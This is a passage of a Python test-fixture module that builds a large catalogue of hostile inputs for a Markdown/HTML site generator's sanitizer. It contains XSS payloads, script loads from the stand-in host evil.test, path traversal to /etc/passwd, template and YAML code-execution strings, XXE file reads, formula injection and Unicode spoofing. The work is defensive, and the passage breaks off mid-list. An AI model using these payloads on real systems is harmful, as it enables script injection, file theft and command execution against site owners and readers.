"""Hostile content as data: each way in times each trick, and what fits no table.

A case is a few files and what becomes of them: the code of the problem that keeps them out, or nothing, and then they are
published as harmless text.  Every name and host is invented (``.test`` is reserved, RFC 6761).
"""

import json
from collections.abc import Callable, Iterable, Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path

CANARY = "Canarywordoutsidethetree"
EVIL = "evil.test"


@dataclass(frozen=True, slots=True, kw_only=True)
class Case:
    """``files`` by their path in the content folder; ``code``: the problem that is expected, None: published."""

    name: str
    files: Mapping[str, bytes]
    code: str | None = None

    @property
    def is_slow(self) -> bool:
        """Whether it is meant to hold a build for long.  (It does not hold ours; Python-Markdown and Zensical it may.)"""
        return self.name.startswith("special-slow-")


# --- tricks: words that would like to be more -------------------------------------------------------------------------------------

WORDS = {
    "script": "<script>window.pwned=1</script>",
    "script-src": f"<script src=//{EVIL}/a.js></script>",
    "script-broken": "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "image": "<img src=x onerror=window.pwned=1>",
    "image-slashes": "<img/src=x/onerror=window.pwned=1//>",
    "image-elsewhere": f"<img src=//{EVIL}/a.png srcset='https://{EVIL}/b.png 2x'>",
    "svg": "<svg/onload=window.pwned=1>",
    "svg-foreign": "<svg><foreignObject><iframe src=javascript:parent.pwned=1></iframe></foreignObject></svg>",
    "svg-animate": "<svg><a><animate attributeName=href values=javascript:window.pwned=1 /><text>x</text></a></svg>",
    "svg-use": f"<svg><use href='https://{EVIL}/a.svg#x'/></svg>",
    "math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=window.pwned=1&gt;'>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "template": "<template><script>window.pwned=1</script></template>",
    "iframe": "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "object": f"<object data=https://{EVIL}/a.swf></object><embed src=//{EVIL}/b.swf>",
    "base": f"<base href=https://{EVIL}/>",
    "refresh": f"<meta http-equiv=refresh content='0;url=https://{EVIL}/'>",
    "form": f"<form action=https://{EVIL}/><input name=password autofocus onfocus=window.pwned=1></form>",
    "style": f"<style>@import '//{EVIL}/a.css';*{{display:none}}</style>",
    "style-attribute": f"<b style='background:url(//{EVIL}/a.png);position:fixed'>x</b>",
    "link-element": f"<link rel=stylesheet href=//{EVIL}/a.css>",
    "details": "<details open ontoggle=window.pwned=1>x</details>",
    "clobber": "<a id=__config name=cookie>x</a><form name=getElementById>y</form>",
    "theme": "<div class='md-search' data-md-component='search' data-md-toggle='drawer'>x</div>",
    "toggle": "<input type=checkbox id=__drawer class=md-toggle>",
    "title-end": "</title></head><script>window.pwned=1</script>",
    "quote-end": "\"><img src=x onerror=window.pwned=1>",
    "quote-attribute": "' autofocus onfocus='window.pwned=1' x='",
    "comment-end": "--><script>window.pwned=1</script><!--",
    "cdata": "<![CDATA[<script>window.pwned=1</script>]]>",
    "textarea": "</textarea></style></xmp><script>window.pwned=1</script>",
    "entities": "&lt;script&gt;window.pwned=1&lt;/script&gt; &#60;img src=x onerror=window.pwned=1&#62;",
    "entities-twice": "&amp;lt;img src=x onerror=window.pwned=1&amp;gt;",
    "jinja": "{{ 7*7 }}{% include '../canary.txt' %}{{ config.__class__ }}",
    "macro": "{{ macros_info() }} {# x #} ${7*7} <%= 7 %>",
    "snippet": '--8<-- "../canary.txt"',
    "snippet-address": f'--8<-- "https://{EVIL}/a.md"',
    "attributes": "x {: onclick=window.pwned=1 #__config .md-toggle style=color:red }",
    "attributes-short": "x { onmouseover=window.pwned=1 data-md-component=search }",
    "markdown-in-html": "<div markdown=1 onclick=window.pwned=1>*x*</div>",
    "autolink": "<javascript:window.pwned=1>",
    "autolink-data": "<data:text/html,<script>parent.pwned=1</script>>",
    "mermaid": "<pre class=mermaid>graph TD; A--&gt;B</pre>",
    "tooltip": "<abbr title='<img src=x onerror=window.pwned=1>'>x</abbr>",
    "link-end": "](javascript:window.pwned=1)",
    "emphasis": "*<script>window.pwned=1</script>*",
    "code-span": "`<script>window.pwned=1</script>`",
    "icon": ":material-skull: :smile: ==x== ~~y~~ ^^z^^ ++ctrl++",
    "admonition": "!!! danger \"<script>window.pwned=1</script>\"",
    "vertical-tab": "<img\x0bsrc=x\x0conerror=window.pwned=1>",
    "separator": "x\u2028<script>window.pwned=1</script>\u2029",
    "placeholder": "\x02klzzwxh:0\x03 \x02wzxhzdk:0\x03 klzzwxh:0",
}  # fmt: skip

# --- ways in: where words may stand -------------------------------------------------------------------------------------------------


def _quoted(words: str) -> str:
    """As a YAML value: JSON's quotes are YAML's; what YAML takes for the end of a line is written by its number."""
    return "".join(json.dumps(c)[1:-1] if ord(c) < 0x10000 else f"\\U{ord(c):08x}" for c in words).join('""')


_UNQUOTED = frozenset({"date", "authors", "key_points", "provenance", "corrections", "statements"})


def _article(slug: str, body: str, **header: str) -> dict[str, bytes]:
    lines = {"title": f"Title of {slug}", "date": "2025-02-03"} | header
    written = "".join(f"{key}: {value if key in _UNQUOTED else _quoted(value)}\n" for key, value in lines.items())
    return {f"articles/{slug}.md": f"---\n{written}---\n\n{body}\n".encode()}


def _clip(slug: str, *, head: str = "", body: str = "", title: str = "Fishers block the harbour") -> dict[str, bytes]:
    page = (
        f"<!doctype html><html><head><title>{title}</title><meta property='article:published_time' content='2025-02-03'>{head}</head>"
        f"<body><article><h1>{title}</h1><p>The fishers of Ruritania blocked the harbour on Monday, and nobody came out.</p>{body}"
        "<p>They said that they would stay there until somebody from the ministry came to speak with them.</p></article></body></html>"
    )
    return {f"articles/{slug}.html": page.encode()}


def _plain(slug: str, title: str, words: str) -> dict[str, bytes]:
    text = f"{title}\n\nBy Ada Example\n3 February 2025\n\nThe fishers of Ruritania blocked the harbour on Monday.\n\n{words}\n\nThey would stay there.\n"
    return {f"articles/{slug}.txt": text.encode()}


def _file(folder: str, slug: str, header: Mapping[str, str], body: str = "") -> dict[str, bytes]:
    written = "".join(f"{key}: {value}\n" for key, value in header.items())
    return {f"{folder}/{slug}.md": f"---\n{written}---\n\n{body}\n".encode()}


def _actor(slug: str, body: str = "", **header: str) -> dict[str, bytes]:
    return _file("actors", slug, {"name": _quoted(f"Person {slug}"), "kind": "person"} | header, body)


def _topic(slug: str, body: str = "", **header: str) -> dict[str, bytes]:
    return _file("topics", slug, {"name": _quoted(f"Topic {slug}")} | header, body)


def _outlet(slug: str, body: str = "", **header: str) -> dict[str, bytes]:
    default = {"name": _quoted(f"Outlet {slug}"), "url": "https://example.org/", "rights": "full"}
    return _file("outlets", slug, default | header, body)


def _html(words: str) -> str:
    return (
        words.replace("&", "&amp;")
        .replace("<", "&lt;")
        .replace(">", "&gt;")
        .replace('"', "&quot;")
        .replace("'", "&#39;")
    )


Way = Callable[[str, str], dict[str, bytes]]
WAYS: Mapping[str, Way] = {
    "markdown": lambda slug, words: _article(slug, f"{words}\n\nText of the article."),
    "inline": lambda slug, words: _article(slug, f"Before {words} behind."),
    "heading": lambda slug, words: _article(slug, f"## {words}\n\nText."),
    "item": lambda slug, words: _article(slug, f"- {words}\n- two\n    1. {words}"),
    "quotation": lambda slug, words: _article(slug, f"> {words}\n> more"),
    "cell": lambda slug, words: _article(slug, f"| a | {words} |\n|---|---|\n| {words} | b |"),
    "fence": lambda slug, words: _article(slug, f"```{words}\n{words}\n```"),
    "fence-attributes": lambda slug, words: _article(slug, f"``` {{ .html {words} }}\n{words}\n```"),
    "indented": lambda slug, words: _article(slug, f"Text.\n\n    {words}"),
    "link-words": lambda slug, words: _article(slug, f"[{words}](https://example.org/)"),
    "link-title": lambda slug, words: _article(slug, f"[x](https://example.org/ '{words}') ![y](https://example.org/ '{words}')"),
    "image-words": lambda slug, words: _article(slug, f"![{words}](https://example.org/a.png)"),
    "reference": lambda slug, words: _article(slug, f"[x]\n\n[x]: https://example.org/ '{words}'"),
    "footnote": lambda slug, words: _article(slug, f"Text[^1].\n\n[^1]: {words}\n\n*[Text]: {words}"),
    "raw-html": lambda slug, words: _article(slug, f"<div>\n{words}\n</div>\n\n<p>{words}\n\nText of the article."),
    "pasted": lambda slug, words: _plain(slug, f"Fishers block harbour {slug}", words),
    "pasted-title": lambda slug, words: _plain(slug, f"Fishers {words}", "Text."),
    "saved": lambda slug, words: _clip(slug, body=f"<p>{words} and some more words of the text.</p>"),
    "saved-escaped": lambda slug, words: _clip(slug, body=f"<p>{_html(words)} and some more words of the text.</p>"),
    "saved-title": lambda slug, words: _clip(slug, title=_html(f"Fishers {words}")),
    "saved-og": lambda slug, words: _clip(slug, head=f'<meta property="og:title" content="{_html(words)}"><meta name="author" content="{_html(words)}">'
                                          f'<meta property="og:site_name" content="{_html(words)}"><meta name="description" content="{_html(words)}">'),
    "saved-json": lambda slug, words: _clip(slug, head='<script type="application/ld+json">' + json.dumps(
        {"@type": "NewsArticle", "headline": words, "author": {"name": words}, "datePublished": "2025-02-03", "publisher": {"name": words}}
    ).replace("</", "<\\/") + "</script>"),
    "title": lambda slug, words: _article(slug, "Text.", title=words),
    "summary": lambda slug, words: _article(slug, "Text.", summary=words),
    "authors": lambda slug, words: _article(slug, "Text.", authors=f"[{_quoted(words)}]"),
    "key-points": lambda slug, words: _article(slug, "Text.", key_points=f"[{_quoted(words)}]"),
    "provenance": lambda slug, words: _article(slug, "Text.", provenance=f"{{source: {_quoted(words)}}}"),
    "actor-name": lambda slug, words: _actor(slug, name=_quoted(f"{words} {slug}")),
    "actor-alias": lambda slug, words: _actor(slug, aliases=f"[{_quoted(f'{words} {slug}')}]"),
    "actor-role": lambda slug, words: _actor(slug, role=_quoted(words), not_same_as=f"[{_quoted(words)}]"),
    "actor-text": lambda slug, words: _actor(slug, words),
    "topic-name": lambda slug, words: _topic(slug, name=_quoted(f"{words} {slug}")),
    "topic-term": lambda slug, words: _topic(slug, terms=f"[{_quoted(f'{words} {slug}')}]"),
    "topic-text": lambda slug, words: _topic(slug, words),
    "outlet-name": lambda slug, words: _outlet(slug, name=_quoted(f"{words} {slug}"), country=_quoted(words)),
    "outlet-text": lambda slug, words: _outlet(slug, words),
    "page": lambda slug, words: {f"pages/{slug}.md": f"# Page {words}\n\n{words}\n".encode()},
}  # fmt: skip

# --- more tricks, each by a few ways ------------------------------------------------------------------------------------------------
# What the generator's own Markdown is made of, and what its renderer lets pass as it is; younger elements and attributes of HTML.

MORE_WORDS = {
    "own-box": "\n<details>\n<summary>x</summary>\n<p><img src=x onerror=window.pwned=1></p>\n</details>\n",
    "own-box-attributes": '\n<details class="ex-a" id="ex-b" onclick="window.pwned=1" ontoggle="window.pwned=1" open>\n</details>\n',
    "own-span": '<span class="ex-hidden" data-ex-go="//evil.test" id="ex-title">x</span>',
    "own-box-open": '\n<details>\n<summary title="</details><script>window.pwned=1</script>">x',
    "stash": "\n\x02 0\x03\n\x020\x03 \x021\x03",
    "heading-id": "# x {#__config}\n\n## y {: #ex-title .md-nav onclick=window.pwned=1 }",
    "heading-link": "## [x](javascript:window.pwned=1) <a id=cookie>y</a>",
    "contents": "[TOC]\n\n///toc\n\n[[toc]]",
    "abbreviation": "*[Text]: \"><img src=x onerror=window.pwned=1>\n\nText",
    "definition": "x\n:   <script>window.pwned=1</script>",
    "link-angles": "[x](<javascript:window.pwned=1>) [y](<https://example.org/ onclick=window.pwned=1>)",
    "link-nested": "[![x](javascript:window.pwned=1)](javascript:window.pwned=1) [a [b](https://example.org/)](javascript:window.pwned=1)",
    "link-title-end": "[x](https://example.org/ 'a\" onclick=\"window.pwned=1\" b=\"')",
    "link-lines": "[x\ny](java\nscript:window.pwned=1)",
    "mail": "<mailto:a@example.org?subject=\"onclick=window.pwned=1>",
    "wiki-link": "[[javascript:window.pwned=1]] [[x|<img src=x onerror=window.pwned=1>]]",
    "table-end": "| a |\n|---|\n| b | <td onclick=window.pwned=1> |\n</table><script>window.pwned=1</script>",
    "fence-language": "\n```js\" onclick=\"window.pwned=1\nx\n```\n",
    "fence-tildes": "\n~~~{.html onclick=window.pwned=1 linenums='1'}\n</code></pre><script>window.pwned=1</script>\n~~~\n",
    "block-html": '/// html | script[src="//evil.test/a.js"]\n///',
    "snippet-lines": ";--8<--\n--8<--\n../canary.txt\n--8<--",
    "snippet-include": "{!../canary.txt!} {{#include ../canary.txt}} {% include-markdown '../canary.txt' %} ![[../canary.txt]] !INCLUDE ../canary.txt",
    "template-block": "{% raw %}{% endraw %}{% set x = cycler.__init__.__globals__.os.popen('touch owned').read() %}{{ x }}",
    "template-line": "\n# for x in range(9)\n{%- autoescape false -%}<script>window.pwned=1</script>{%- endautoescape -%}\n",
    "front-matter": "\n---\ntemplate: ../../../canary.txt\nhide: [x]\n---\n",
    "policy": "<meta http-equiv=Content-Security-Policy content=\"script-src *\"><meta name=referrer content=unsafe-url>",
    "rules": '<script type=speculationrules>{"prefetch":[{"urls":["//evil.test/"]}]}</script>',
    "import-map": '<script type=importmap>{"imports":{"./search.js":"//evil.test/a.js"}}</script>',
    "prerender": "<link rel=prerender href=//evil.test/><link rel=dns-prefetch href=//evil.test><link rel=modulepreload href=//evil.test/a.js>",
    "shadow": "<div><template shadowrootmode=open><script>window.pwned=1</script></template></div>",
    "popover": "<button popovertarget=x>y</button><div popover id=x onbeforetoggle=window.pwned=1>x</div>",
    "media": "<video poster=//evil.test/a.png><source src=//evil.test/a.mp4 onerror=window.pwned=1></video><audio src=//evil.test/a.mp3 autoplay>",
    "background": "<table background=//evil.test/a.png><body background=//evil.test/b.png onload=window.pwned=1>",
    "ping": '<a href="https://example.org/" ping="//evil.test/" target=_self download onclick=window.pwned=1>x</a>',
    "picture": "<picture><source srcset=//evil.test/a.png><img src=x onerror=window.pwned=1></picture><input type=image src=//evil.test/a>",
    "mutation": "<svg></p><style><a id=\"</style><img src=1 onerror=window.pwned=1>\">",
    "mutation-form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>",
    "mutation-comment": "<!--><img src=x onerror=window.pwned=1>--> <!--!> <img src=x onerror=window.pwned=1> --!>",
    "mutation-select": "<select><option><iframe></select><img src=x onerror=window.pwned=1>",
    "clobber-more": "<form id=document><input name=cookie></form><a id=location name=defaultView><img name=currentScript><object id=ex><a id=ex>",
    "clobber-heading": "## constructor\n\n## __proto__\n\n## location\n\n## document",
    "full-width": "\uff1cscript\uff1ewindow.pwned=1\uff1c/script\uff1e \ufe64img src=x onerror=window.pwned=1\ufe65",
    "long-s": "<\u017fcript>window.pwned=1</\u017fcript> <\u212abd onclick=window.pwned=1>",
    "tags-unseen": "x\U000e003cscript\U000e003e \ufff9a\ufffab\ufffb \u00ad\u034f\u115f",
    "direction": "x \u202e<tpircs/>\u202c \u2066y \u061cz \u200f",
    "surrogates": "x \\ud800 &#xd800; &#x110000; &#0; &#1; &#x80;",
    "entities-cut": "&lt;script&gt window.pwned=1 &#60script&#62 &lt&#x3Cimg src=x onerror=window.pwned=1&#x3e &colon; &NewLine;",
    "math-link": "$\\href{javascript:window.pwned=1}{x}$ \\(\\url{//evil.test}\\) \\[\\unicode{<script>}\\]",
    "marks": "***\n___\n---\n+ x\n1) y\n= z\n> - > <script>window.pwned=1</script>",
    "json-end": "\u2028\"}]}</script><script>window.pwned=1</script><script type=\"application/ld+json\">[{\"",
    "feed-end": "]]></content></entry><script xmlns='http://www.w3.org/1999/xhtml'>window.pwned=1</script><![CDATA[",
    "formula": "=HYPERLINK(\"https://evil.test\",\"x\") @SUM(1) +cmd|' /C calc'!A0 -2+3",
    "citation": "{x}\\input{../canary.txt}\\write18{touch owned}\nTY  - JOUR\nER  - \n@article{x,\n}",
}  # fmt: skip
MORE_WAYS: Mapping[str, Way] = {
    **{way: WAYS[way] for way in ("markdown", "inline", "raw-html", "pasted", "saved-escaped", "title", "actor-name", "topic-text")},
    "corrections": lambda slug, words: _article(slug, "Text.", corrections=f"[{{date: 2025-02-04, what: {_quoted(words)}}}]"),
    "statement": lambda slug, words: _actor(slug, name=_quoted(f"Person {slug}")) | _plain(
        slug, f"Person {slug} speaks", f"“We will not go to {' '.join(words.split())} again today,” said Person {slug}."
    ),
    "weak-alias": lambda slug, words: _actor(slug, weak_aliases=f"[{_quoted(f'{words} {slug}')}]", metonyms=f"[{_quoted(f'{slug} {words}')}]"),
}  # fmt: skip

# Where a way or a trick ends otherwise than as text: (way, trick) -> the problem.  "*" is any.
_DEAD = [
    "link-dead",
    "javascript-control",
    "javascript-percent",
    "backslashes",
    "slash-backslash",
    "up",
    "up-encoded",
    "root",
    "other-file",
]
KEPT_OUT: dict[tuple[str, str], str] = {
    ("fence", "code-span"): "fence-open",
    ("fence-attributes", "code-span"): "fence-open",
    ("pasted-title", "entities"): "title-missing",
    ("pasted-title", "entities-twice"): "title-missing",
    **{
        (way, "placeholder"): "name-hidden"
        for way in ("actor-name", "actor-alias", "topic-name", "topic-term", "outlet-name")
    },
    **{
        ("footnote", trick): "link-dead"
        for trick in [
            "image",
            "image-slashes",
            "image-elsewhere",
            "svg",
            "link-element",
            "toggle",
            "comment-end",
            "snippet",
            "snippet-address",
            "emphasis",
            "code-span",
            "vertical-tab",
            "separator",
        ]
    },  # what has no blank in it is taken for an address
    **{(way, "direction"): "name-hidden" for way in ("title", "actor-name", "weak-alias")},
    **{(way, trick): "name-hidden" for way in ("actor-name", "weak-alias") for trick in ("stash", "tags-unseen")},
    **{(f"to-{way}", trick): "link-dead" for way in ("link", "image", "reference", "actor") for trick in _DEAD[1:]},
    **{(f"to-{way}", trick): "link-dead" for way in ("raw", "saved") for trick in _DEAD[2:]},
    ("to-url", "*"): "header-value",
    ("to-outlet-url", "*"): "header-value",
    ("to-url", "quote"): "",
    ("to-outlet-url", "quote"): "",
}

# --- addresses ----------------------------------------------------------------------------------------------------------------------

ADDRESSES = {
    "javascript": "javascript:window.pwned=1",
    "javascript-cased": "JaVaScRiPt:window.pwned=1",
    "javascript-entity": "&#106;avascript&colon;window.pwned=1",
    "javascript-tab": "java&#9;script:window.pwned=1",
    "javascript-control": "&#1;javascript:window.pwned=1",
    "javascript-percent": "javascript%3Awindow.pwned=1",
    "data": "data:text/html,%3Cscript%3Eparent.pwned=1%3C/script%3E",
    "vbscript": "vbscript:msgbox(1)",
    "file": "file:///etc/passwd",
    "blob": "blob:https://example.org/1",
    "protocol-relative": f"//{EVIL}/a",
    "backslashes": f"\\\\\\\\{EVIL}\\\\a",
    "slash-backslash": f"/\\\\{EVIL}/a",
    "no-host": "https:a",
    "up": "../../../../canary.txt",
    "up-encoded": "%2e%2e/%2e%2e/canary.txt",
    "root": "/etc/passwd",
    "other-file": "../../canary.txt",
    "quote": "https://example.org/%22onclick=window.pwned=1",
    "brackets": "http://[::1",
}
ADDRESS_WAYS: Mapping[str, Way] = {
    "link": lambda slug, to: _article(slug, f"[x]({to})"),
    "image": lambda slug, to: _article(slug, f"![x]({to})"),
    "reference": lambda slug, to: _article(slug, f"[x]\n\n[x]: {to}"),
    "raw": lambda slug, to: _article(slug, f'<p><a href="{to}">x</a></p>\n\nInline <a href="{to}">y</a>.'),
    "saved": lambda slug, to: _clip(
        slug, body=f'<p>Words of the text <a href="{to}">with a link</a> in them, and more.</p>'
    ),
    "saved-canonical": lambda slug, to: _clip(
        slug, head=f'<link rel="canonical" href="{to}"><meta property="og:url" content="{to}">'
    ),
    "url": lambda slug, to: _article(slug, "Text.", url=to),
    "outlet-url": lambda slug, to: _outlet(slug, url=_quoted(to)),
    "actor": lambda slug, to: _actor(slug, f"[x]({to})"),
}


# --- what fits no table --------------------------------------------------------------------------------------------------------------

_HEAD = '---\ntitle: "A title"\ndate: 2025-02-03\n'


def _special(name: str, data: str | bytes, code: str | None, path: str = "") -> Case:
    return Case(
        name=f"special-{name}",
        files={path or f"articles/special-{name}.md": data.encode() if isinstance(data, str) else data},
        code=code,
    )


SPECIAL = (
    _special("yaml-anchor", f"{_HEAD}summary: &a x\nauthors: [*a]\n---\n\nText.\n", "header-anchor"),
    _special("yaml-bomb", "---\na: &a [x,x]\nb: &b [*a,*a]\nc: [*b,*b]\n---\n\nText.\n", "header-anchor"),
    _special("yaml-merge", f"{_HEAD}<<: [{{a: 1}}]\n---\n\nText.\n", "header-unknown"),
    _special("yaml-tag", f"{_HEAD}summary: !!python/object/apply:os.system [x]\n---\n\nText.\n", "header-tag"),
    _special("yaml-own-tag", f"{_HEAD}summary: !ENV HOME\n---\n\nText.\n", "header-tag"),
    _special("yaml-deep", f"{_HEAD}authors: {'[' * 200}{']' * 200}\n---\n\nText.\n", "header-too-deep"),
    _special("yaml-deep-flow", f"{_HEAD}authors: {'{a: ' * 9000}x{'}' * 9000}\n---\n\nText.\n", "text-tangled"),
    _special("yaml-twice", f"{_HEAD}title: Another\n---\n\nText.\n", "header-twice"),
    _special("yaml-long", f'{_HEAD}summary: "{"x " * 40000}"\n---\n\nText.\n', "header-too-long"),
    _special("yaml-second", f"{_HEAD}--- x\ntitle: a\n---\n\nText.\n", "header-broken"),
    _special("field-unknown", f"{_HEAD}template: ../../../canary.txt\n---\n\nText.\n", "header-unknown"),
    _special("field-hide", f"{_HEAD}hide: [toc]\n---\n\nText.\n", "header-unknown"),
    _special("status", f'{_HEAD}status: "<script>window.pwned=1</script>"\n---\n\nText.\n', "header-value"),
    _special("language", f'{_HEAD}language: "en\\" onclick=\\"window.pwned=1"\n---\n\nText.\n', "header-value"),
    _special("redirect-up", f"{_HEAD}redirects: [../../index]\n---\n\nText.\n", "header-value"),
    _special("redirect-index", f"{_HEAD}redirects: [con]\n---\n\nText.\n", "file-reserved"),
    _special("outlet-path", f"{_HEAD}outlet: ../../canary\n---\n\nText.\n", "header-value"),
    _special("bidi-title", '---\ntitle: "Talks \u202egnihton\u202c"\ndate: 2025-02-03\n---\n\nText.\n', "name-hidden"),
    _special("bidi-isolate", '---\ntitle: "Talks \u2066x"\ndate: 2025-02-03\n---\n\nText.\n', "name-hidden"),
    _special("bidi-actor", '---\nname: "Person \u202eelpmaxE"\nkind: person\n---\n', "name-hidden", "actors/special-bidi.md"),
    _special("bidi-alias", '---\nname: "Person Bi"\nkind: person\naliases: ["P. \u202dBi"]\n---\n', "name-hidden", "actors/special-bidi-alias.md"),
    _special("unseen-alias", '---\nname: "Person Unseen"\nkind: person\naliases: ["Un\u200bseen Person"]\n---\n', "name-hidden", "actors/special-unseen.md"),
    _special("bidi-term", '---\nname: "Topic Bi"\nterms: ["a \u2067topic"]\n---\n', "name-hidden", "topics/special-bidi.md"),
    _special("mixed-actor", '---\nname: "Person Mix\u0435d"\nkind: person\n---\n', "name-mixed", "actors/special-mixed.md"),
    _special("mixed-outlet", '---\nname: "The G\u0430zette"\nurl: https://example.org\nrights: full\n---\n', "name-mixed", "outlets/special-mixed.md"),
    Case(name="special-lookalike", code="name-lookalike", files={
        **_actor("special-orc", name=_quoted("OPEX"), kind="organisation"),
        **_actor("special-orc-two", name=_quoted("\u041e\u0420\u0415\u0425"), kind="organisation")}),
    *(_special(f"device-{name}", f"{_HEAD}---\n\nText.\n", "file-reserved", f"articles/{name}.md") for name in ("con", "aux", "nul", "com1", "lpt9")),
    _special("device-topic", "---\nname: Topic Prn\n---\n", "file-reserved", "topics/prn.md"),
    *(_special(f"name-{n}", f"{_HEAD}---\n\nText.\n", "slug-form", f"articles/{name}.md") for n, name in enumerate(
        ["A-Title", "a title", "a.b", "cafe\u0301", "caf\u00e9", "__config", "-a", "a\u202eb", "<img src=x onerror=pwned=1>", "a'b", "{{ 7 }}", "trailing "])),
    Case(name="special-case-collision", code="slug-form", files={
        "articles/special-case.md": f"{_HEAD}---\n\nOne.\n".encode(), "articles/Special-Case.md": f"{_HEAD}---\n\nTwo.\n".encode()}),
    Case(name="special-ending-collision", code="slug-twice", files={
        "articles/special-ending.md": f"{_HEAD}---\n\nOne.\n".encode(), "articles/special-ending.txt": f"{_HEAD}---\n\nTwo.\n".encode()}),
    _special("index", f"{_HEAD}---\n\nText.\n", "slug-reserved", "articles/index.md"),
    _special("stray-script", "window.pwned=1", "file-stray", "articles/special.js"),
    _special("stray-svg", "<svg onload='window.pwned=1'/>", "file-stray", "pages/special.svg"),
    _special("stray-folder", f"{_HEAD}---\n\nText.\n", "file-stray", "articles/sub/special.md"),
    _special("stray-root", "x", "file-stray", "special.md"),
    _special("nul", f"{_HEAD}---\n\nText\0 more.\n", "file-binary"),
    _special("utf16-lying", b"\xff\xfe" + b"odd", "encoding-unknown"),
    _special("pdf", b"%PDF-1.4 <script>window.pwned=1</script>", "file-binary"),
    _special("zip", b"PK\x03\x04 <script>window.pwned=1</script>", "file-binary", "articles/special-zip.html"),
    _special("large", f"{_HEAD}---\n\n" + "word " * 1_100_000, "file-too-large"),
    _special("long", f"{_HEAD}---\n\n" + "word " * 110_000, "text-too-long"),
    _special("long-line", "<html><body><p>" + "word " * 220_000, "line-too-long", "articles/special-line.html"),
    _special("utf7", _clip("x", head='<meta charset="utf-7">', body="<p>+ADw-script+AD4-window.pwned=1+ADw-/script+AD4- and more words.</p>")["articles/x.html"], None, "articles/special-utf7.html"),
    _special("charset-lies", _clip("x", head='<meta charset="utf-16">', body="<p>Caf\u00e9 \u0416\u0418 and more words.</p>")["articles/x.html"], None, "articles/special-charset.html"),
    _special("half-utf8", f"{_HEAD}---\n\nCaf".encode() + "é à ü ö ä".encode() + b" \xff and more.\n", None),
    _special("deep-list", f"{_HEAD}---\n\n" + "".join(f"{'  ' * n}- item{n} words\n" for n in range(60)), None),
    _special("deep-html", _clip("x", body="<div>" * 3000 + "<p>Words in the depth of it all.</p>" + "</div>" * 3000)["articles/x.html"], None, "articles/special-deep.html"),
    _special("long-name", f"{_HEAD}---\n\nText.\n", "slug-form", f"articles/{'a' * 200}.md"),
    _special("two-endings", f"{_HEAD}---\n\nText.\n", "slug-form", "articles/special.html.md"),
    _special("redirect-to-list", f"{_HEAD}redirects: [index]\n---\n\nText.\n", "redirect-taken"),
    _special("redirect-to-list-of-topics", "---\nname: Topic To List\nredirects: [index]\n---\n", "redirect-taken", "topics/special-to-list.md"),
    _special("redirect-itself", f"{_HEAD}redirects: [special-redirect-itself]\n---\n\nText.\n", "redirect-taken"),
    Case(name="special-redirect-ring", code="redirect-taken", files={
        "articles/special-ring.md": f"{_HEAD}redirects: [special-ring-two]\n---\n\nOne.\n".encode(),
        "articles/special-ring-two.md": f"{_HEAD}redirects: [special-ring]\n---\n\nTwo.\n".encode()}),
    _special("redirect-host", f"{_HEAD}redirects: ['//{EVIL}']\n---\n\nText.\n", "header-value"),
    _special("redirect-long", f"{_HEAD}redirects: [{'a' * 200}]\n---\n\nText.\n", "header-value"),
    _special("outlet-user", f"---\nname: Outlet User\nurl: https://example.org@{EVIL}/\nrights: full\n---\n", "header-value", "outlets/special-user.md"),
    _special("outlet-lines", f'---\nname: Outlet Lines\nurl: "https://example.org/\\n//{EVIL}"\nrights: full\n---\n', "header-value", "outlets/special-lines.md"),
    _special("wikidata", "---\nname: Person Wikidata\nkind: person\nwikidata: 'Q1\" onclick=\"window.pwned=1'\n---\n", "header-value", "actors/special-wikidata.md"),
    Case(name="special-parent-ring", code="topic-cycle", files={
        **_topic("special-parent", parent="special-parent-two"), **_topic("special-parent-two", parent="special-parent")}),
    _special("date-far", '---\ntitle: "A title"\ndate: 99999-01-01\n---\n\nText.\n', "header-value"),
    _special("weight", "---\nname: Topic Weight\nterms: [{harbour walls: .inf}]\n---\n", "header-value", "topics/special-weight.md"),
    _special("weight-long", f"---\nname: Topic Weight Long\nterms: [{{harbour gates: {'9' * 5000}}}]\n---\n", "header-value", "topics/special-weight-long.md"),
    _special("decisions", "same: !!python/object/apply:os.system ['touch owned']\n", "header-tag", "statements.yaml"),
    _special("addresses", f"articles/<script>window.pwned=1</script>/\n//{EVIL}/\n../../canary.txt\n", "address-form", "addresses.txt"),
    _special("entity-file", _clip("x", body="<p>Words &xxe; of the text, and some more of them.</p>")["articles/x.html"].replace(
        b"<!doctype html>", b"<!DOCTYPE html [<!ENTITY xxe SYSTEM '../../canary.txt'>]>"), None, "articles/special-entity.html"),
    _special("entity-bomb", _clip("x", body="<p>Words &c;&c; of the text, and some more.</p>")["articles/x.html"].replace(
        b"<!doctype html>", b"<!DOCTYPE html [<!ENTITY a 'aaaaaaaa'>" + b"".join(b"<!ENTITY %c '%s'>" % (98 + n, b"&%c;" % (97 + n) * 9) for n in range(9)) + b"]>"), None, "articles/special-bomb.html"),
    _special("utf16", f"{_HEAD}---\n\n<script>window.pwned=1</script> Text.\n".encode("utf-16"), None),
    _special("utf32", f"{_HEAD}---\n\n<script>window.pwned=1</script> Text.\n".encode("utf-32"), None),
    _special("overlong", f"{_HEAD}---\n\nText ".encode() + b"\xc0\xbcscript\xc0\xbewindow.pwned=1 \xed\xa0\x80 more.\n", None),
    _special("nul-saved", _clip("x", body="<p>scr\0ipt and more words.</p>")["articles/x.html"], "file-binary", "articles/special-nul.html"),
    _special("iso-2022", _clip("x", head="<meta charset=iso-2022-jp>", body="<p>\x1b$B%3%1B\x1b(J and more words.</p>")["articles/x.html"], None, "articles/special-iso-2022.html"),
    *(_special(f"tangled-{name}", f"{_HEAD}---\n\n{words}\n", "text-tangled") for name, words in {
        "brackets": "[" * 8000, "fences": "~~~ a\n" * 2001, "rows": "|" * 6000, "tags": "<div>" * 6000,
        "definitions": "".join(f"[a{n}]: http://example.org/{n}\n" for n in range(7000))}.items()),
    *(_special(f"slow-{name}", f"{_HEAD}---\n\n{words}\n", None) for name, words in {
        "emphasis": "*a **b " * 1200, "underscores": "_" * 4900, "ticks": "`" * 2000 + "a" + "`" * 1999, "quotations": "> " * 3000 + "x",
        "links": "[a](" * 1600, "images": "![" * 2400, "entities": "&amp;" * 4900, "backslashes": "\\" * 4900, "speech": "\u201cWe will not go there again,\u201d said " * 3000,
